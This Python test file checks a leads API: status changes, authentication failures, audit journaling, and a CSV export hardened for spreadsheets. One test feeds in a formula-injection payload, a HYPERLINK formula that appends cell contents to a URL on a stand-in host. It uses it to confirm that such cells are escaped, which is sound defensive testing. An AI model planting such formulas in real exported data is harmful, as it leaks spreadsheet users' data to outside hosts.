"""Leads as sales works with them: their status, and all of them in a spreadsheet that executes nothing."""

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import UUID, uuid4

import asyncpg
import httpx
import pytest

from app.core.db import Database
from app.leads import table
from tests.alerts import rows
from tests.conftest import OPERATOR
from tests.talk import capture_lead

NOBODY = "00000000-0000-4000-8000-000000000000"
T0 = datetime(2026, 1, 1, tzinfo=UTC)


async def lead(sql: asyncpg.Connection, *, minutes: float = 0, **columns: Any) -> UUID:
    """A lead and its conversation, made `minutes` after T0."""
    lead_id, conversation_id = uuid4(), uuid4()
    await sql.execute(
        "INSERT INTO chat_conversations (id, token_hash, locale, language) VALUES ($1, $2, 'pl', 'pl')",
        conversation_id,
        conversation_id.bytes,
    )
    values = {
        "id": lead_id,
        "conversation_id": conversation_id,
        "score": 50,
        "language": "pl",
        "created_at": T0 + timedelta(minutes=minutes),
        **columns,
    }
    marks = ", ".join(f"${number}" for number in range(1, len(values) + 1))
    await sql.execute(f"INSERT INTO leads ({', '.join(values)}) VALUES ({marks})", *values.values())
    return lead_id


async def download(client: httpx.AsyncClient, query: str = "", separator: str = ",") -> list[dict[str, str]]:
    response = await client.get(f"/v1/leads.csv{query}", headers=OPERATOR)
    assert response.status_code == 200, response.text
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=separator))


async def test_sales_says_how_far_it_has_come(client: httpx.AsyncClient, sql: asyncpg.Connection) -> None:
    lead_id = await lead(sql)
    for status in ("contacted", "contacted", "won"):
        response = await client.patch(f"/v1/leads/{lead_id}", json={"status": status}, headers=OPERATOR)
        assert (response.status_code, response.json()["status"]) == (200, status)
    assert (await client.get(f"/v1/leads/{lead_id}", headers=OPERATOR)).json() == response.json()
    assert [entry[:3] for entry in await rows.actions(sql)] == [
        ("key:admin", "lead.contacted", str(lead_id)),
        ("key:admin", "lead.won", str(lead_id)),
    ]


@pytest.mark.parametrize("body", [{}, {"status": None}])
async def test_nothing_asked_is_nothing_changed(
    client: httpx.AsyncClient, sql: asyncpg.Connection, body: dict[str, Any]
) -> None:
    lead_id = await lead(sql)
    before = await sql.fetchrow("SELECT * FROM leads")
    response = await client.patch(f"/v1/leads/{lead_id}", json=body, headers=OPERATOR)
    assert (response.status_code, response.json()["status"]) == (200, "new")
    assert await sql.fetchrow("SELECT * FROM leads") == before
    assert await rows.actions(sql) == []


@pytest.mark.parametrize(
    "body",
    [
        b'{"status":"sold"}',
        b'{"status":1}',
        b'{"status":["won"]}',
        b'{"status":"won\\u0000"}',
        b'{"status":"\\ud800"}',
        b'{"score":100}',
        b'{"id":"x"}',
        b"[]",
        b'"won"',
        b"",
    ],
)
async def test_another_change_is_422(client: httpx.AsyncClient, sql: asyncpg.Connection, body: bytes) -> None:
    lead_id = await lead(sql)
    headers = {**OPERATOR, "Content-Type": "application/json"}
    response = await client.patch(f"/v1/leads/{lead_id}", content=body, headers=headers)
    assert response.status_code == 422, response.text
    assert await sql.fetchval("SELECT status FROM leads") == "new"


async def test_a_lead_that_is_not_there_is_404(client: httpx.AsyncClient) -> None:
    response = await client.patch(f"/v1/leads/{NOBODY}", json={"status": "won"}, headers=OPERATOR)
    assert (response.status_code, response.json()["code"]) == (404, "lead-not-found")
    assert (await client.patch("/v1/leads/x", json={"status": "won"}, headers=OPERATOR)).status_code == 422


@pytest.mark.parametrize(("method", "path"), [("PATCH", f"/v1/leads/{NOBODY}"), ("GET", "/v1/leads.csv")])
async def test_strangers_are_401(client: httpx.AsyncClient, method: str, path: str) -> None:
    token = await capture_lead(client)
    for headers in ({}, token, {"Authorization": "Bearer x"}):
        assert (await client.request(method, path, json={"status": "won"}, headers=headers)).status_code == 401


async def test_the_table_holds_what_the_list_holds(client: httpx.AsyncClient) -> None:
    await capture_lead(client)
    (listed,) = (await client.get("/v1/leads", headers=OPERATOR)).json()["items"]
    (line,) = await download(client)
    assert list(line) == list(table.COLUMNS) == list(listed)
    assert line["id"] == listed["id"]
    assert line["phone"] == "'+48691222333"
    assert (line["rodo_consent"], line["email"], line["area_m2"]) == ("true", "", "52.00")


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", " =", "\u00a0="])
async def test_no_cell_is_a_formula(client: httpx.AsyncClient, sql: asyncpg.Connection, first: str) -> None:
    text = f'{first}HYPERLINK("http://x.pl?"&A1;"a,b");\r\n=1+1'
    await lead(sql, name=text, city=text)
    for query, separator in (("", ","), ("?separator=semicolon", ";")):
        (line,) = await download(client, query, separator)
        assert (line["name"], line["city"]) == (f"'{text}", f"'{text}")


def test_a_nul_is_no_formula_either() -> None:
    assert table.cell("\0=1") == "'\0=1"


@pytest.mark.parametrize("text", ["a=b", "Kowalska-Nowak", "j@x.pl", '"', ",", "'", "", "Żółć", "1\n2"])
async def test_plain_text_stays_as_it_is(client: httpx.AsyncClient, sql: asyncpg.Connection, text: str) -> None:
    await lead(sql, name=text)
    (line,) = await download(client)
    assert line["name"] == text


@pytest.mark.parametrize("leads", [0, 3])
async def test_who_took_how_many_is_journaled(client: httpx.AsyncClient, sql: asyncpg.Connection, leads: int) -> None:
    for number in range(leads):
        await lead(sql, minutes=number)
    assert len(await download(client)) == leads
    [entry] = (await client.get("/v1/operator-actions?target=all", headers=OPERATOR)).json()["items"]
    assert (entry["actor"], entry["action"], entry["count"]) == ("key:admin", "leads.export", leads)


async def test_excel_knows_the_encoding_and_the_file_its_name(client: httpx.AsyncClient) -> None:
    response = await client.get("/v1/leads.csv", headers=OPERATOR)
    assert response.content == b"\xef\xbb\xbf" + ",".join(table.COLUMNS).encode() + b"\r\n"
    assert response.headers["Content-Type"].startswith("text/csv; charset=utf-8")
    assert response.headers["Content-Disposition"] == 'attachment; filename="leads.csv"'
    assert response.headers["Cache-Control"] == "no-store"


async def test_every_lead_once_whatever_comes_meanwhile(
    database: Database, sql: asyncpg.Connection, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(table, "PAGE", 2)
    made = [await lead(sql, minutes=number // 2) for number in range(7)]
    pieces = []
    async for piece in table.pages(database, actor="key:sales"):
        pieces.append(piece)
        journaled = await rows.actions(sql)
        assert [entry[:3] for entry in journaled] == [("key:sales", "leads.export", "all")]
        assert await sql.fetchval("SELECT count FROM operator_action") == min(2 * len(pieces), len(made))
        assert (
            await sql.fetchval(
                "SELECT count(*) FROM pg_stat_activity WHERE datname = current_database() AND state LIKE 'idle in%'"
            )
            == 0
        )
        await lead(sql, minutes=100)
    lines = list(csv.DictReader(io.StringIO("".join(pieces).removeprefix(table.BOM))))
    assert len(pieces) == 4
    assert sorted(line["id"] for line in lines) == sorted(map(str, made))
    assert [line["created_at"] for line in lines] == sorted((line["created_at"] for line in lines), reverse=True)
